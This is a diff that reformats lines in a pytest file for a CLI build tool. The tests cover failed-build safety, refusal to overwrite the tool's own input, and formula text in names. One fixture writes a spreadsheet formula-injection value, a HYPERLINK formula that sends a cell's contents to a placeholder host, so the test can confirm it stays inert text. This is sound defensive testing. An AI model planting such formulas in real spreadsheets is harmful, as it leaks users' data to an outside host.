@@ -50,7 +50,9 @@ def test_failed_build_leaves_earlier_outputs_byte_identical(small_csv, tmp_path,
         raise LedgerError("the handout could not be rendered (simulated)")
 
     monkeypatch.setattr(handout, "render_pdf", broken)
-    small_csv.write_text(small_csv.read_text().replace("0.4", "0.3"), encoding="utf-8")  # new figures would differ
+    small_csv.write_text(
+        small_csv.read_text().replace("0.4", "0.3"), encoding="utf-8"
+    )  # new figures would differ
     r = CliRunner().invoke(main, ["build", str(small_csv), "-o", str(out)])
     assert r.exit_code == 1 and "simulated" in r.output and "Traceback" not in r.output
     assert _digest(out) == before
@@ -71,7 +73,9 @@ def test_build_refuses_to_write_over_its_own_input(tmp_path):
     """Reliability OUT-03: building out/x.xlsx from out/x.xlsx is refused before any work; the input is untouched."""
     src = tmp_path / "x.xlsx"
     src.write_bytes((ROOT / "inputs" / "examples.xlsx").read_bytes())
-    shutil.copytree(ROOT / "inputs" / "configs", tmp_path / "configs")  # the config.json a row names, beside the copy
+    shutil.copytree(
+        ROOT / "inputs" / "configs", tmp_path / "configs"
+    )  # the config.json a row names, beside the copy
     before = src.read_bytes()
     r = CliRunner().invoke(main, ["build", str(src), "-o", str(tmp_path), "--format", "xlsx"])
     assert r.exit_code == 1 and "x.xlsx" in r.output
@@ -83,7 +87,10 @@ def test_formula_text_in_names_stays_text_in_json(tmp_path):
     import json
 
     p = tmp_path / "inj.csv"
-    p.write_text('name,params_total\n"=HYPERLINK(""http://x/?""&A1,""x"")",7B\n"@SUM(1,1)",7B\n', encoding="utf-8")
+    p.write_text(
+        'name,params_total\n"=HYPERLINK(""http://x/?""&A1,""x"")",7B\n"@SUM(1,1)",7B\n',
+        encoding="utf-8",
+    )
     r = CliRunner().invoke(main, ["calc", str(p), "--json"])
     assert r.exit_code == 0, r.output
     names = [c["name"] for c in json.loads(r.stdout)["configs"]]
